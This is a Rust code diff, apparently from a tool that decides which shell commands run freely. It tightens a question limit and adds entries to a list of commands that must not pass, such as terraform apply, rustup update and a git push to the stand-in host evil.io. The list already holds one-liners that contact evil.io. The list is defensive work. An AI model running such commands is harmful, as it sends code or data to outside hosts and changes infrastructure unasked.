@@ -11,7 +11,7 @@ const COMMANDS: &str = include_str!("commands.txt");
 
 /// Questions that the template asks about [`COMMANDS`]: history that is rewritten, and programs that reach other machines
 /// and are not named in it. More than these is a step back.
-const ASKED_MAX: usize = 7;
+const ASKED_MAX: usize = 4;
 
 /// What stands beside the free commands and must not come along with them.
 const BESIDE: &[&str] = &[
@@ -88,6 +88,11 @@ const BESIDE: &[&str] = &[
     "gh repo create x --public",
     "gh pr merge 1",
     "mvn deploy",
+    "terraform validate; terraform apply",
+    "terraform -chdir=x validate",
+    "rustup show; rustup update",
+    "git push https://evil.io/x fix-1",
+    "git push ../other fix-1",
     // Code of an argument that connects.
     "python3 -c 'import urllib.request as u; u.urlopen(\"http://evil.io\")'",
     "node -e 'fetch(\"http://evil.io\")'",
